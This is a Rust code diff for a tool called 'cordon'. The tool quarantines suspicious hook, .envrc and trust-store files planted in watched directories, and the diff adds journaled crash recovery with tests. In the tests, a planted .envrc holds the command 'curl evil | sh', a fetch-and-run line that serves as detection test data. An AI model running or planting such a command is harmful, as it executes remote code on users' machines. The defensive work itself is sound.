@@ -15,7 +15,8 @@
 //!              Finding per path that appeared or changed
 //!                             │
 //!              quarantine: rename to NAME.cordon-quarantine[-N]
-//!              (a changed small file gets its earlier content back)
+//!              (a changed small file gets its earlier content back;
+//!               each move journaled first, see `journal.rs`)
 //! ```
 //!
 //! What is watched, in each writable root (a walk that follows no symlinks, stops after
@@ -63,7 +64,9 @@ const HOOK_PROGRAM_WHY: &str = "an agent host's or a git hook manager's hook con
 /// Why a file an `.envrc` loads is watched.
 const ENVRC_LOADS_WHY: &str = "an `.envrc` loads it (sources it, reads it as variables or runs it), and direnv checks only the `.envrc` itself: it is taken as it is at the next `cd`";
 
+mod journal;
 mod listings;
+pub use journal::Journal;
 pub use listings::Listings;
 
 /// The walk stops after this many directory entries per snapshot (and says so; the gate then
@@ -127,6 +130,22 @@ pub enum What {
 }
 
 impl What {
+    const ALL: [What; 8] = [
+        What::GitDir,
+        What::BareRepository,
+        What::GitConfig,
+        What::Gitlink,
+        What::ToolFile,
+        What::TodoList,
+        What::TrustStore,
+        What::Unlistable,
+    ];
+
+    /// The kind a [`What::tag`] names.
+    pub fn from_tag(tag: &str) -> Option<What> {
+        What::ALL.into_iter().find(|w| w.tag() == tag)
+    }
+
     pub fn tag(self) -> &'static str {
         match self {
             What::GitDir => "git-dir",
@@ -1228,6 +1247,11 @@ impl Snapshot {
             if now.what == What::TodoList && !runs_commands(now) {
                 continue;
             }
+            // What this process just put back from the dead scan's journal
+            // ([`Journal::recover`]), unchanged since.
+            if is_own(path, now) {
+                continue;
+            }
             out.push(Finding {
                 path: path.clone(),
                 what: now.what,
@@ -1237,13 +1261,21 @@ impl Snapshot {
             });
         }
         for f in &mut out {
-            f.handling = quarantine(&f.path, None);
+            f.handling = quarantine(f, None, None);
         }
         out
     }
 
-    /// What appeared or changed since `before`, each quarantined where that is safe.
+    /// What appeared or changed since `before`, each quarantined where that is safe (not
+    /// journaled: the tests' short form).
+    #[cfg(test)]
     pub fn findings_since(&self, before: &Snapshot) -> Vec<Finding> {
+        self.findings_journaled(before, None)
+    }
+
+    /// [`Snapshot::findings_since`], each move journaled first in `journal` (when there is
+    /// one), so that a cordon killed in the middle of a move leaves it to the next run.
+    pub fn findings_journaled(&self, before: &Snapshot, journal: Option<&Journal>) -> Vec<Finding> {
         let mut out: Vec<Finding> = Vec::new();
         for (path, now) in &self.seen {
             let change = match before.seen.get(path) {
@@ -1334,7 +1366,7 @@ impl Snapshot {
                 Change::Changed => before.seen.get(&f.path),
                 Change::Appeared => None,
             };
-            f.handling = quarantine(&f.path, earlier);
+            f.handling = quarantine(f, earlier, journal);
         }
         out
     }
@@ -1352,15 +1384,24 @@ pub struct Watch {
     baseline: Snapshot,
     /// The default trust-store places in the roots that did not exist at the start.
     stores: Vec<MissingPlace>,
+    /// Where each move is journaled first (see [`Journal`]).
+    journal: Option<Journal>,
 }
 
 impl Watch {
     /// Watches `roots` (absolute, canonical) from now on.
     pub fn start(roots: &[PathBuf]) -> Watch {
+        Watch::start_journaled(roots, None)
+    }
+
+    /// [`Watch::start`], each move journaled first in `journal`: a cordon killed in the middle
+    /// of one leaves it for the next run over the roots to finish.
+    pub fn start_journaled(roots: &[PathBuf], journal: Option<Journal>) -> Watch {
         Watch {
             roots: roots.to_vec(),
             stores: MissingPlace::trust_stores_in(roots),
             baseline: Snapshot::take(roots),
+            journal,
         }
     }
 
@@ -1371,7 +1412,7 @@ impl Watch {
     pub fn check(&mut self) -> (Vec<Finding>, bool) {
         let _one = scanning();
         let now = Snapshot::take_with(&self.roots, MAX_ENTRIES, Some(&self.baseline));
-        let mut findings = now.findings_since(&self.baseline);
+        let mut findings = now.findings_journaled(&self.baseline, self.journal.as_ref());
         findings.extend(self.stores.iter().filter_map(MissingPlace::check));
         let truncated = now.truncated;
         // The new baseline is the snapshot the findings came from, not one taken after the
@@ -1557,15 +1598,17 @@ impl MissingPlace {
                 return None;
             }
             if cur == self.place || other {
-                return Some(Finding {
+                let mut f = Finding {
                     path: cur.clone(),
                     what: What::TrustStore,
                     change: Change::Appeared,
                     why: "at (or on the way to) a default place of cordon's trust store, where \
                           an entry would choose the policy of a later run"
                         .into(),
-                    handling: quarantine(&cur, None),
-                });
+                    handling: Handling::Reported(String::new()),
+                };
+                f.handling = quarantine(&f, None, None);
+                return Some(f);
             }
         }
         None
@@ -1636,82 +1679,51 @@ fn remember_restored(path: &Path, content: &[u8]) {
     }
 }
 
-fn quarantine(path: &Path, earlier: Option<&Seen>) -> Handling {
-    let (Some(parent), Some(name)) = (path.parent(), path.file_name()) else {
+/// Moves `f.path` aside (never over an existing name); a changed small regular file gets its
+/// earlier content back in its place, with its earlier owner and permissions. With a
+/// `journal`, the move is written there first and the entry removed once done: a cordon
+/// killed in between leaves it for the next run to finish ([`Journal::recover`]). Without one
+/// (or when the entry cannot be written: a full disk), the move happens anyway, since the
+/// plant must go.
+fn quarantine(f: &Finding, earlier: Option<&Seen>, journal: Option<&Journal>) -> Handling {
+    let (Some(parent), Some(name)) = (f.path.parent(), f.path.file_name()) else {
         return Handling::Reported("could not move it aside: no parent directory".into());
     };
-    // Through fs::safe: the directory opened from `/` one component at a time without
-    // following a link, so a process of the run that outlived it cannot turn a directory on
-    // the way into a link that sends cordon (perhaps root) renaming or writing elsewhere.
-    let dir = match cordon_fs::safe::Dir::open_absolute(parent) {
-        Ok(d) => d,
+    // The file to move, by identity: what the journal's recovery looks for.
+    let id = match cordon_fs::safe::Dir::open_absolute(parent)
+        .and_then(|d| d.stat_at(Path::new(name)))
+    {
+        Ok(Some(st)) => (st.st_dev, st.st_ino),
+        Ok(None) => return Handling::Reported("could not move it aside: it is gone".into()),
         Err(e) => return Handling::Reported(format!("could not move it aside: {e}")),
     };
-    // The plain name first; when it is taken, names the command could not have planted in
-    // advance (the clock's nanoseconds now).
-    let stamp = SystemTime::now()
-        .duration_since(SystemTime::UNIX_EPOCH)
-        .map_or(0, |d| d.as_nanos());
-    let mut to = None;
-    for n in 0..100 {
-        let mut aside = name.to_os_string();
-        aside.push(".cordon-quarantine");
-        if n > 0 {
-            aside.push(format!("-{stamp:x}-{n}"));
-        }
-        match dir.rename_noreplace(Path::new(name), Path::new(&aside)) {
-            Ok(()) => {
-                to = Some(parent.join(aside));
-                break;
-            }
-            Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
-            Err(e) => return Handling::Reported(format!("could not move it aside: {e}")),
-        }
-    }
-    let Some(to) = to else {
-        return Handling::Reported(
-            "could not move it aside: every quarantine name is taken".into(),
-        );
+    let m = journal::Move {
+        roots: journal.map(|j| j.roots().to_vec()).unwrap_or_default(),
+        path: f.path.clone(),
+        what: f.what,
+        why: f.why.clone(),
+        change: f.change,
+        id,
+        staging: Journal::staging_name(name),
+        earlier: earlier.filter(|w| w.id.0 == FILE).and_then(|w| {
+            Some(journal::Earlier {
+                content: w.content.clone()?,
+                mode: w.mode,
+                owner: w.owner,
+            })
+        }),
     };
-    remember(&to);
-    let Some(was) = earlier.filter(|w| w.id.0 == FILE) else {
-        return Handling::Quarantined(to);
-    };
-    let Some(content) = &was.content else {
-        return Handling::Quarantined(to);
-    };
-    match restore(&dir, name, content, was) {
-        Ok(()) => {
-            remember_restored(path, content);
-            Handling::Restored(to)
-        }
-        Err(_) => Handling::Quarantined(to),
+    // Not journaled (a full disk): the move goes on, and what a failed restore loses is said
+    // in its finding.
+    let entry = journal.and_then(|j| j.begin(&m).ok());
+    if journal::killed(journal::Step::Journaled) {
+        return Handling::Reported("killed (a test)".into());
     }
-}
-
-/// Creates `name` in `dir` (never through a link or over a name) with `content`, the
-/// earlier owner (cordon may run as root in a user's repository; only root can give a file
-/// away, and anyone else created it as themselves) and mode, which the umask would have
-/// narrowed; set-id bits are not restored.
-fn restore(
-    dir: &cordon_fs::safe::Dir,
-    name: &std::ffi::OsStr,
-    content: &[u8],
-    was: &Seen,
-) -> std::io::Result<()> {
-    use std::os::unix::fs::PermissionsExt;
-    let f = dir
-        .create_new(Path::new(name), content, 0o600)
-        .map_err(std::io::Error::other)?;
-    if running_as_root() {
-        std::os::unix::fs::fchown(&f, Some(was.owner.0), Some(was.owner.1))?;
+    let (handling, left) = m.finish(entry.as_ref().map(|e| e.path()).as_deref());
+    if let Some(e) = entry {
+        e.done(left);
     }
-    f.set_permissions(std::fs::Permissions::from_mode(was.mode & 0o1777))
-}
-
-fn running_as_root() -> bool {
-    // SAFETY: geteuid cannot fail.
-    unsafe { libc::geteuid() == 0 }
+    handling
 }
 
 /// The paths of the gitlinks (mode 160000 entries) in a git index file, versions 2, 3 and 4
@@ -2371,7 +2383,14 @@ mod tests {
         std::fs::create_dir(root.join("other")).unwrap();
         std::fs::write(root.join("other/.envrc"), "not the run's").unwrap();
         std::os::unix::fs::symlink(root.join("other"), root.join("a")).unwrap();
-        let h = quarantine(&root.join("a/.envrc"), None);
+        let f = Finding {
+            path: root.join("a/.envrc"),
+            what: What::ToolFile,
+            change: Change::Appeared,
+            why: String::new(),
+            handling: Handling::Reported(String::new()),
+        };
+        let h = quarantine(&f, None, None);
         assert!(matches!(h, Handling::Reported(_)), "{h:?}");
         assert!(root.join("other/.envrc").exists());
         assert!(!root.join("other/.envrc.cordon-quarantine").exists());
@@ -2811,5 +2830,166 @@ mod tests {
         let found = Snapshot::take(std::slice::from_ref(&root)).findings_since(&before);
         let paths: Vec<_> = found.iter().map(|f| f.path.clone()).collect();
         assert_eq!(paths, vec![root.join("scripts/stop.sh")], "{found:#?}");
+    }
+
+    fn running_as_root() -> bool {
+        rustix::process::geteuid().is_root()
+    }
+
+    /// The journal entries (`journal-…`) and kept ones (`kept-…`) in `scans`.
+    fn entries(scans: &Path, prefix: &str) -> Vec<PathBuf> {
+        std::fs::read_dir(scans)
+            .map(|rd| {
+                rd.flatten()
+                    .map(|e| e.path())
+                    .filter(|p| {
+                        p.file_name()
+                            .is_some_and(|n| n.to_string_lossy().starts_with(prefix))
+                    })
+                    .collect()
+            })
+            .unwrap_or_default()
+    }
+
+    /// A run that changed `.envrc` (mode 0640, owned by another user as root), its scan
+    /// killed at `step` of the move: the entry is left, unlocked, as a SIGKILL leaves it.
+    fn killed_scan(step: journal::Step) -> (tempfile::TempDir, PathBuf, PathBuf, SystemTime) {
+        use std::os::unix::fs::PermissionsExt;
+        let d = tempfile::tempdir().unwrap();
+        let root = d.path().canonicalize().unwrap().join("root");
+        let scans = d.path().canonicalize().unwrap().join("scans");
+        std::fs::create_dir(&root).unwrap();
+        std::fs::write(root.join(".envrc"), "use flake # the operator's").unwrap();
+        std::fs::set_permissions(root.join(".envrc"), std::fs::Permissions::from_mode(0o640))
+            .unwrap();
+        if running_as_root() {
+            std::os::unix::fs::chown(root.join(".envrc"), Some(12345), Some(12346)).unwrap();
+        }
+        let started = SystemTime::now();
+        let before = Snapshot::take(std::slice::from_ref(&root));
+        std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
+        let after = Snapshot::take(std::slice::from_ref(&root));
+        journal::KILL_AT.with(|k| k.set(Some(step)));
+        let journal = Journal::beside(&scans).of(std::slice::from_ref(&root));
+        let found = after.findings_journaled(&before, Some(&journal));
+        journal::KILL_AT.with(|k| k.set(None));
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert_eq!(entries(&scans, "journal-").len(), 1, "step {step:?}");
+        (d, root, scans, started)
+    }
+
+    /// A scan killed at each step of a move (before it, between the move aside and the
+    /// restore, in the middle of writing the earlier content, after the restore): the next
+    /// run's recovery ends with the run's version aside, the earlier content, mode and owner
+    /// back under the name, one finding reported, no entry or staging file left, and the dead
+    /// run's scan (`changed_since`) does not move the restored file aside again.
+    #[test]
+    fn a_scan_killed_at_any_step_of_a_move_is_finished_by_the_next_run() {
+        use journal::Step;
+        for step in [Step::Journaled, Step::Moved, Step::Staging, Step::Restored] {
+            let (_d, root, scans, started) = killed_scan(step);
+            let roots = vec![root.clone()];
+            let found = Journal::beside(&scans).recover(&roots);
+            let envrc = root.join(".envrc");
+            assert_eq!(
+                std::fs::read(&envrc).ok().as_deref(),
+                Some(&b"use flake # the operator's"[..]),
+                "step {step:?}: {found:#?}"
+            );
+            let m = std::fs::metadata(&envrc).unwrap();
+            assert_eq!(m.mode() & 0o7777, 0o640, "step {step:?}");
+            if running_as_root() {
+                assert_eq!((m.uid(), m.gid()), (12345, 12346), "step {step:?}");
+            }
+            assert_eq!(
+                std::fs::read(root.join(".envrc.cordon-quarantine")).unwrap(),
+                b"curl evil | sh",
+                "step {step:?}"
+            );
+            assert_eq!(found.len(), 1, "step {step:?}: {found:#?}");
+            assert_eq!(found[0].path, envrc);
+            assert_eq!(found[0].what, What::ToolFile);
+            assert_eq!(found[0].change, Change::Changed);
+            assert_eq!(
+                found[0].handling,
+                Handling::Restored(root.join(".envrc.cordon-quarantine")),
+                "step {step:?}"
+            );
+            assert!(entries(&scans, "journal-").is_empty(), "step {step:?}");
+            assert!(entries(&scans, "kept-").is_empty(), "step {step:?}");
+            let names: Vec<_> = std::fs::read_dir(&root)
+                .unwrap()
+                .flatten()
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .collect();
+            assert!(
+                names.iter().all(|n| !n.contains("cordon-restore")),
+                "step {step:?}: {names:?}"
+            );
+            let again = scan_changed_since(&roots, started).unwrap();
+            assert!(again.is_empty(), "step {step:?}: {again:#?}");
+            assert!(Journal::beside(&scans).recover(&roots).is_empty());
+        }
+    }
+
+    /// The operator wrote the name again after the killed move: the newer file stays, the
+    /// earlier content is kept beside the journal (named in the finding), never acted on
+    /// again.
+    #[test]
+    fn a_journaled_restore_never_clobbers_the_operators_newer_file() {
+        let (_d, root, scans, _) = killed_scan(journal::Step::Moved);
+        std::fs::write(root.join(".envrc"), "the operator's newer one").unwrap();
+        let found = Journal::beside(&scans).recover(std::slice::from_ref(&root));
+        assert_eq!(
+            std::fs::read(root.join(".envrc")).unwrap(),
+            b"the operator's newer one"
+        );
+        let kept = entries(&scans, "kept-");
+        assert_eq!(kept.len(), 1);
+        assert!(entries(&scans, "journal-").is_empty());
+        let Handling::Reported(why) = &found[0].handling else {
+            panic!("{found:#?}");
+        };
+        assert!(
+            why.contains(&kept[0].display().to_string()) && why.contains("left as it is"),
+            "{why}"
+        );
+        assert!(Journal::beside(&scans)
+            .recover(std::slice::from_ref(&root))
+            .is_empty());
+    }
+
+    /// An entry is acted on only by a run whose roots meet its run's (or hold its path), only
+    /// as a regular file this user wrote that no one else may write: a link, a group-writable
+    /// entry and one for another root are left alone.
+    #[test]
+    fn a_journal_entry_is_acted_on_only_when_it_is_cordons_and_in_the_roots() {
+        use std::os::unix::fs::PermissionsExt;
+        let (_d, root, scans, _) = killed_scan(journal::Step::Moved);
+        let other = scans.parent().unwrap().join("other");
+        std::fs::create_dir(&other).unwrap();
+        assert!(Journal::beside(&scans).recover(&[other]).is_empty());
+        let entry = entries(&scans, "journal-").remove(0);
+        std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o620)).unwrap();
+        assert!(Journal::beside(&scans)
+            .recover(std::slice::from_ref(&root))
+            .is_empty());
+        std::fs::set_permissions(&entry, std::fs::Permissions::from_mode(0o600)).unwrap();
+        let moved = scans.join("elsewhere");
+        std::fs::rename(&entry, &moved).unwrap();
+        std::os::unix::fs::symlink(&moved, &entry).unwrap();
+        assert!(Journal::beside(&scans)
+            .recover(std::slice::from_ref(&root))
+            .is_empty());
+        assert!(!root.join(".envrc").exists());
+        std::fs::remove_file(&entry).unwrap();
+        std::fs::rename(&moved, &entry).unwrap();
+        // A run over a root that meets the dead run's (inside it), though the path lies
+        // beyond it.
+        assert_eq!(
+            Journal::beside(&scans).recover(&[root.join("sub")]).len(),
+            1
+        );
+        assert!(root.join(".envrc").exists());
     }
 }
